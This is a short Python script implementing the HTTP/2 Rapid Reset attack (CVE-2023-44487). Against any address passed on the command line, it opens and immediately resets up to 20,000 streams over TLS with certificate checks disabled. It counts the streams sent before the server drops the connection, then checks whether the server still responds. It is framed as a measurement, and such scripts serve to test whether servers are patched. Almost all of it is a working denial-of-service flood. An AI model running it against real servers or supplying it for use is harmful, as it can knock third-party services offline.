#!/usr/bin/env python3
"""reset.py ADDRESS: HTTP/2 streams that are opened and reset at once (CVE-2023-44487), 20000 of them if the
server lets us. Prints how many were sent until the server ended the connection, and how it answers afterwards."""
import socket, ssl, struct, sys

address = sys.argv[1]
context = ssl._create_unverified_context()
context.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect():
    one = context.wrap_socket(socket.create_connection((address, 443), 10))
    assert one.selected_alpn_protocol() == "h2"
    one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return one


# GET https://localhost/open/ in HPACK's static table and literals.
fields = b"\x82\x87\x44\x06/open/\x41\x09localhost"
sent, one = 0, connect()
try:
    for stream in range(1, 40001, 2):
        one.sendall(frame(1, 5, stream, fields) + frame(3, 0, stream, struct.pack(">I", 8)))
        sent += 1
        if sent % 50 == 0:
            one.settimeout(0.001)
            try:
                if not one.recv(65536):
                    break
            except TimeoutError:
                pass
            one.settimeout(10)
except OSError:
    pass
after = connect()
after.sendall(frame(1, 5, 1, fields))
after.settimeout(10)
got = b""
while b"\x01\x04\x00\x00\x00\x01" not in got:
    got += after.recv(65536)
print(sent, "answers")
